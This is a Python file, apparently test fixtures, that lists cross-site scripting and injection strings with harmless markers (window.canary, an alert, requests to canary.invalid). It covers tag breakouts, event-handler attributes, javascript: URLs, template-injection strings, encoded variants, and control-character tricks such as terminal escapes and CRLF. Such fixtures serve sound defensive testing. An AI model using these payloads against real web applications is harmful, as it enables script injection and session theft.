"""Texts that would run code, or break out, wherever they were put in as anything but text.

Each that runs sets `window.canary`, opens a dialog or asks a host named canary.invalid.
"""

RUN = "window.canary=1"
TEXTS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title></textarea></noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    "<script src=//canary.invalid/x.js></script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<object data=//canary.invalid/x></object>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<style>@import '//canary.invalid/x.css';</style>",
    '<meta http-equiv=refresh content="0;url=//canary.invalid/">',
    "<base href=//canary.invalid/>",
    f'<a href="javascript:{RUN}">click</a>',
    f"javascript:{RUN}//",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f'\\"-({RUN})-\\"',
    f"';{RUN};//",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"{{@html '<img src=x onerror={RUN}>'}}",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "<script>alert(1)</script>",
    f"<img src=x onerror=fetch('//canary.invalid')>{RUN}",
]
# what no header and no path may hold, but a log line may
CONTROLS = [
    f"\x1b]0;title\x07\x1b[2J<script>{RUN}</script>",
    f"line one\n</pre><script>{RUN}</script>",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\u202e<script>{RUN}</script>",
    f"<\0script>{RUN}</script>",
    f"\r\n\r\n<script>{RUN}</script>",
    f"\ufeff<svg/onload={RUN}>",
]
